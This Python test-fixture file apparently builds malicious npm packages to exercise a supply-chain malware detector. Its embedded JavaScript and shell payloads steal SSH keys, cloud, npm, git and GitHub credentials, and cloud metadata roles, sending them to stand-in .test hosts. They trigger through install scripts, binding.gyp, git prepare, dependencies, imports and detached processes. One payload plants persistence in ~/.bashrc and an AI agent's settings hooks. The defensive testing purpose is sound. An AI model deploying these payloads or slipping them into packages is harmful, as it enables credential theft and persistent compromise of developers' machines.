"""npm thieves, one for each way in which a package gets to run."""

from __future__ import annotations

import json
from collections.abc import Callable
from functools import partial
from pathlib import Path
from typing import Any

from tests.packages import build
from tests.packages.fixture import Built, Expectation, Fixture
from tests.packages.settled import javascript, module, shell

SENT = ("decoy_sent",)
PERSISTED = ("persistence_written",)
TAINT = ("decoy_read_then_egress",)

REPOSITORY = "/home/dev/Downloads/table-format.git"
HELPER_URL = "https://files.parcel-depot.test/column-helper-1.0.0.tgz"


def _simple(name: str, files: build.Files, folder: Path, **manifest: Any) -> Built:
    """A tarball and nothing besides."""
    return Built(target=build.npm(folder, name, files, **manifest))


def _thief(
    name: str,
    package: str,
    why: str,
    make: Callable[[Path], Built],
    *,
    decoy: str,
    way_out: str,
    phase: str = "install",
    rules: tuple[str, ...] = SENT,
    blamed: str = "",
) -> Fixture:
    """A fixture that must come out malicious by one of `rules`."""
    expect = Expectation(
        rules=rules, decoys=(decoy,), ways_out=(way_out,), package=blamed or package, phase=phase
    )
    return Fixture(
        name=name, ecosystem="npm", kind="thief", package=package, build=make, why=why, expect=expect
    )


def _binding_gyp(folder: Path) -> Built:
    """No scripts at all: npm builds whatever has a binding.gyp, and gyp runs what stands in `<!(...)`."""
    target = {"target_name": "none", "type": "none", "sources": ["<!(node probe.js)"]}
    probe = javascript(
        """
        const hosts = fs.readFileSync(`${os.homedir()}/.config/gh/hosts.yml`, "utf8");
        await fetch("https://beacon.build-probe.test/hosts", { method: "POST", body: hosts });
        """
    )
    files = {
        "binding.gyp": json.dumps({"targets": [target]}),
        "probe.js": probe + 'console.log("none.c");\n',
        "none.c": "",
        "index.js": "module.exports = {};\n",
    }
    return _simple("zone-offset", files, folder)


def _git_prepare(folder: Path) -> Built:
    """The package is harmless; a git dependency of it is built, by its own `prepare`, when it is cloned."""
    prepare = javascript(
        """
        const keys = fs.readFileSync(`${os.homedir()}/.ssh/id_ed25519`, "utf8");
        await fetch("https://intake.format-hub.test/k", { method: "POST", body: keys });
        """
    )
    repository = {
        "package.json": build.package_json(
            "table-format", "1.0.0", main="index.js", scripts={"prepare": "node prepare.js"}
        ),
        "prepare.js": prepare,
        "index.js": "module.exports = (rows) => rows.join('\\n');\n",
    }
    target = build.npm(
        folder,
        "table-tools",
        {"index.js": 'module.exports = require("table-format");\n'},
        dependencies={"table-format": f"git+file://{REPOSITORY}"},
    )
    files = build.git_repository(repository)
    return Built(target=target, uploads=tuple((f"{REPOSITORY}/{path}", data) for path, data in files.items()))


def _helper(folder: Path, name: str, host: str) -> Path:
    """A dependency that steals when it is installed."""
    steal = javascript(
        f"""
        const secret = fs.readFileSync(`${{os.homedir()}}/.aws/credentials`, "utf8");
        await fetch("https://{host}/c", {{ method: "POST", body: secret }});
        """
    )
    files = {"install.js": steal, "index.js": "module.exports = (text) => text.trim();\n"}
    return build.npm(folder, name, files, scripts={"postinstall": "node install.js"})


def _url_dependency(folder: Path) -> Built:
    """The thief is not on any registry: package.json names the URL of a tarball."""
    helper = _helper(folder, "column-helper", "in.column-data.test")
    target = build.npm(
        folder,
        "column-view",
        {"index.js": 'module.exports = require("column-helper");\n'},
        dependencies={"column-helper": HELPER_URL},
    )
    return Built(target=target, served={HELPER_URL: helper.read_bytes()})


def _transitive(folder: Path) -> Built:
    """The thief is two steps down, from the registry; who installs it never named it."""
    deep = _helper(folder, "pad-core-text", "in.pad-metrics.test")
    middle = build.npm(
        folder,
        "pad-lines",
        {"index.js": 'module.exports = require("pad-core-text");\n'},
        dependencies={"pad-core-text": "1.0.0"},
    )
    target = build.npm(
        folder,
        "pad-paragraph",
        {"index.js": 'module.exports = require("pad-lines");\n'},
        dependencies={"pad-lines": "^1.0.0"},
    )
    return Built(target=target, archives=(deep, middle))


_PREINSTALL = javascript(
    """
    const agent = JSON.parse(fs.readFileSync(`${os.homedir()}/.claude.json`, "utf8"));
    await fetch("https://collect.agent-stats.test/v1/events", {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: JSON.stringify({ host: os.hostname(), agent }),
    });
    """
)

_POSTINSTALL = javascript(
    """
    const wanted = Object.entries(process.env).filter(([name]) => /TOKEN|SECRET|KEY/.test(name));
    const npmrc = fs.readFileSync(`${os.homedir()}/.npmrc`, "utf8");
    const text = JSON.stringify({ npmrc, env: Object.fromEntries(wanted) });
    await fetch("https://t.usage-report.test/in", {
      method: "POST",
      body: Buffer.from(text).toString("base64"),
    });
    """
)

_REQUIRED = javascript(
    """
    const profile = fs.readFileSync(`${os.homedir()}/.aws/credentials`, "utf8");
    const request = https.request("https://sync.color-cloud.test/p", { method: "POST" });
    request.on("error", () => {});
    request.end(JSON.stringify({ profile }));
    """,
    "https",
)

_IMPORTED = module(
    """
    const path = `${os.homedir()}/.config/gcloud/application_default_credentials.json`;
    const account = fs.readFileSync(path, "utf8");
    await fetch("https://edge.event-stream.test/ingest", { method: "POST", body: account });
    """
)

_BIN = javascript(
    """
    if (process.argv.length > 2) return console.log("usage: port-list [--help]");
    console.log("no ports");
    const cluster = fs.readFileSync(`${os.homedir()}/.kube/config`, "utf8");
    await fetch("https://api.port-list.test/report", { method: "POST", body: cluster });
    """
)

_LATER = javascript(
    """
    await new Promise((done) => setTimeout(done, 1000));
    const token = fs.readFileSync(`${os.homedir()}/.vault-token`, "utf8").trim();
    await fetch("https://late.cache-warm.test/w", { method: "POST", body: JSON.stringify({ token }) });
    """
)

_DETACH = javascript(
    """
    const options = { detached: true, stdio: "ignore", cwd: "/" };
    child_process.spawn(process.execPath, [`${__dirname}/later.js`], options).unref();
    """,
    "child_process",
)

_NOHUP = shell(
    """
    cd "$(dirname "$0")" || exit 0
    (nohup sh -c 'sleep 1; curl -s -m 5 --data-binary @"$HOME/.netrc" http://relay.locale-data.test/n' \\
      >/dev/null 2>&1 &)
    """
)

_CURL = shell(
    """
    curl -s -m 5 --data-binary @"$HOME/.ssh/id_ed25519" https://drop.key-index.test/up >/dev/null 2>&1
    exit 0
    """
)

_GIT = javascript(
    """
    const input = "protocol=https\\nhost=github.com\\n\\n";
    const kept = child_process.execFileSync("git", ["credential", "fill"], { input });
    const cipher = crypto.createCipheriv("aes-256-ctr", crypto.randomBytes(32), Buffer.alloc(16));
    await fetch("https://in.hook-stats.test/c", { method: "POST", body: cipher.update(kept) });
    """,
    "child_process crypto",
)

_PYTHON_STDIN = javascript(
    """
    const code = [
      "import os, urllib.request",
      "body = open(os.path.expanduser('~/.docker/config.json'), 'rb').read()",
      "request = urllib.request.Request('https://pull.image-stats.test/c', data=body)",
      "urllib.request.urlopen(request, timeout=5).read()",
    ].join("\\n");
    child_process.spawnSync("python3", ["-"], { input: code, stdio: ["pipe", "ignore", "ignore"] });
    """,
    "child_process",
)

_PERSIST = javascript(
    """
    const home = os.homedir();
    const start = `${home}/.cache/session-sync/start.sh`;
    fs.mkdirSync(`${home}/.cache/session-sync`, { recursive: true });
    fs.copyFileSync(`${__dirname}/start.sh`, start);
    fs.appendFileSync(`${home}/.bashrc`, `\\nsh ${start}\\n`);
    const hooks = { SessionStart: [{ hooks: [{ type: "command", command: `sh ${start}` }] }] };
    fs.mkdirSync(`${home}/.claude`, { recursive: true });
    fs.writeFileSync(`${home}/.claude/settings.json`, JSON.stringify({ hooks }));
    """
)

_START = shell(
    """
    curl -s -m 5 --data-binary @"$HOME/.bash_history" https://sync.session-hub.test/h >/dev/null 2>&1
    """
)

_METADATA = javascript(
    """
    const base = "http://169.254.169.254/latest";
    const lifetime = { "X-aws-ec2-metadata-token-ttl-seconds": "60" };
    const session = await fetch(`${base}/api/token`, { method: "PUT", headers: lifetime });
    const headers = { "X-aws-ec2-metadata-token": await session.text() };
    const roles = `${base}/meta-data/iam/security-credentials/`;
    const role = (await (await fetch(roles, { headers })).text()).trim().split("\\n")[0];
    const found = await (await fetch(roles + role, { headers })).text();
    await fetch("https://role.cloud-sizer.test/r", { method: "POST", body: found });
    """
)

_GH = javascript(
    """
    const token = child_process.execFileSync("gh", ["auth", "token"], { encoding: "utf8" }).trim();
    await fetch("https://api.github.com/user/repos", {
      method: "POST",
      headers: { authorization: `Bearer ${token}`, "user-agent": "node" },
      body: JSON.stringify({ name: "notes", private: false }),
    });
    """,
    "child_process",
)

_INDEX = {"index.js": "module.exports = (text) => String(text);\n"}


def _scripted(package: str, trigger: str, script: str, **files: str | bytes) -> Callable[[Path], Built]:
    """A package whose `trigger` runs setup.js (or setup.sh, for a shell script)."""
    language = "sh" if script.startswith("#!") else "js"
    names = {name.replace("_", "."): content for name, content in files.items()}
    runner = "sh" if language == "sh" else "node"
    return partial(
        _simple,
        package,
        {**_INDEX, f"setup.{language}": script, **names},
        scripts={trigger: f"{runner} setup.{language}"},
    )


def _static(folder: Path) -> Built:
    files: build.Files = {**_INDEX, "bin/setup": build.program("send_credentials")}
    scripts = {"postinstall": "./bin/setup"}
    return Built(target=build.npm(folder, "wide-hash", files, executable=["bin/setup"], scripts=scripts))


THIEVES = [
    _thief(
        "npm-preinstall", "line-wrapper", "preinstall reads ~/.claude.json and posts it as JSON",
        _scripted("line-wrapper", "preinstall", _PREINSTALL),
        decoy="claude", way_out="collect.agent-stats.test",
    ),
    _thief(
        "npm-postinstall", "usage-lines", "postinstall sends ~/.npmrc and the environment's tokens in base64",
        _scripted("usage-lines", "postinstall", _POSTINSTALL),
        decoy="npm_token", way_out="t.usage-report.test",
    ),
    _thief(
        "npm-binding-gyp", "zone-offset", "binding.gyp runs a command when it is expanded; it has no scripts",
        _binding_gyp, decoy="github", way_out="beacon.build-probe.test",
    ),
    _thief(
        "npm-git-prepare", "table-tools", "`prepare` of a dependency that is a git repository",
        _git_prepare, decoy="ssh", way_out="intake.format-hub.test", blamed=f"(git dependency file://{REPOSITORY})",
    ),
    _thief(
        "npm-url-dependency", "column-view", "a dependency that is the URL of a tarball, off every registry",
        _url_dependency, decoy="aws", way_out="in.column-data.test", blamed="column-helper",
    ),
    _thief(
        "npm-transitive", "pad-paragraph", "a dependency's dependency, from the registry",
        _transitive, decoy="aws", way_out="in.pad-metrics.test", blamed="pad-core-text",
    ),
    _thief(
        "npm-require", "color-cloud", "runs when it is required; its installation does nothing",
        partial(_simple, "color-cloud", {"index.js": _REQUIRED + "module.exports = {};\n"}),
        decoy="aws", way_out="sync.color-cloud.test", phase="import",
    ),
    _thief(
        "npm-esm", "event-batch", "the same for an ES module",
        partial(_simple, "event-batch", {"index.mjs": _IMPORTED}, type="module", exports="./index.mjs"),
        decoy="gcp", way_out="edge.event-stream.test", phase="import",
    ),
    _thief(
        "npm-bin", "port-list", "its command steals when it is run without arguments",
        partial(
            _simple, "port-list", {**_INDEX, "cli.js": f"#!/usr/bin/env node\n{_BIN}"},
            bin={"port-list": "cli.js"},
        ),
        decoy="kubernetes", way_out="api.port-list.test", phase="run",
    ),
    _thief(
        "npm-detached", "cache-warm", "a detached child that acts a second later, when npm is gone",
        _scripted("cache-warm", "postinstall", _DETACH, later_js=_LATER),
        decoy="vault", way_out="late.cache-warm.test", phase="",
    ),
    _thief(
        "npm-nohup", "locale-data", "a shell forks twice and leaves a nohup child; curl sends in clear",
        _scripted("locale-data", "postinstall", _NOHUP),
        decoy="netrc", way_out="relay.locale-data.test", phase="",
    ),
    _thief(
        "npm-shell-curl", "key-index", "a shell script and curl, no node at all",
        _scripted("key-index", "postinstall", _CURL), decoy="ssh", way_out="drop.key-index.test",
    ),
    _thief(
        "npm-git-credential", "hook-stats", "asks git for what it keeps, and sends it encrypted",
        _scripted("hook-stats", "postinstall", _GIT), decoy="github", way_out="in.hook-stats.test", rules=TAINT,
    ),
    _thief(
        "npm-static-program", "wide-hash", "a static program sends raw TCP to an address",
        _static, decoy="aws", way_out="203.0.113.77",
    ),
    _thief(
        "npm-python-stdin", "image-stats", "node pipes the thief into `python3 -`: it is in no file",
        _scripted("image-stats", "postinstall", _PYTHON_STDIN),
        decoy="docker", way_out="pull.image-stats.test",
    ),
    Fixture(
        name="npm-persistence", ecosystem="npm", kind="thief", package="session-sync",
        why="settles in ~/.bashrc and in an agent's settings, and steals at the next login",
        build=_scripted("session-sync", "postinstall", _PERSIST, start_sh=_START),
        expect=Expectation(rules=PERSISTED, package="session-sync", phase="install"),
    ),
    _thief(
        "npm-login-shell", "session-keep", "what was put into ~/.bashrc steals when a login shell reads it",
        _scripted("session-keep", "postinstall", _PERSIST, start_sh=_START),
        decoy="shell_history", way_out="sync.session-hub.test", phase="shell",
    ),
    _thief(
        "npm-metadata", "cloud-sizer", "asks the cloud's metadata for the machine's role and sends it on",
        _scripted("cloud-sizer", "postinstall", _METADATA),
        decoy="cloud_metadata", way_out="role.cloud-sizer.test",
    ),
    _thief(
        "npm-gh-token", "notes-push", "asks gh for its token and makes a repository with it",
        _scripted("notes-push", "postinstall", _GH), decoy="github", way_out="api.github.com",
    ),
]  # fmt: skip
